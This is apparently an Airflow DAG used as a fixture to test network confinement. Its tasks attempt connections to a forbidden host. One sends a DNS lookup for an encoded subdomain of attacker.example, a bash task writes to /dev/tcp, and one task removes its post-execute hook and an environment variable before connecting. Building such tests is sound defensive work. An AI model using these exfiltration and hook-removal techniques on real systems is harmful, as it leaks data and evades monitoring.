"""Tasks that try, and tasks that may: read by Airflow, not by pytest."""

import contextlib
import json
import os
import socket
from datetime import UTC, datetime, timedelta
from pathlib import Path

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import dag, task
from airflow.sdk.exceptions import AirflowSkipException

PLACES = json.loads(Path(__file__).with_name("places.json").read_text())
FORBIDDEN, ALLOWED = tuple(PLACES["forbidden"]), tuple(PLACES["allowed"])


@dag(
    schedule="@once",
    start_date=datetime(2026, 1, 1, tzinfo=UTC),
    default_args={"retries": 2, "retry_delay": timedelta(seconds=0)},
)
def confined():
    @task
    def swallows():
        with contextlib.suppress(OSError):
            socket.create_connection(FORBIDDEN, timeout=2)

    @task
    def raises():
        socket.create_connection(FORBIDDEN, timeout=2)

    @task
    def skips():
        with contextlib.suppress(OSError):
            socket.create_connection(FORBIDDEN, timeout=2)
        raise AirflowSkipException

    @task
    def reaches():
        with socket.create_connection(ALLOWED, timeout=5) as s:
            s.sendall(b"hello")
            return s.recv(5).decode()

    @task
    def asks():
        with contextlib.suppress(OSError):
            socket.getaddrinfo("1850275123456.attacker.example", 443)

    @task
    def unhooks():
        from airflow.sdk import get_current_context

        get_current_context()["ti"].task._post_execute_hook = None
        os.environ.pop("RES_OPTIONS", None)
        with contextlib.suppress(OSError):
            socket.create_connection(FORBIDDEN, timeout=2)

    swallows()
    raises()
    skips()
    reaches()
    asks()
    unhooks()
    BashOperator(task_id="bash", bash_command=f"echo x > /dev/tcp/{FORBIDDEN[0]}/{FORBIDDEN[1]} || true")
    BashOperator(task_id="harmless", bash_command="echo hello | tr a-z A-Z")


confined()
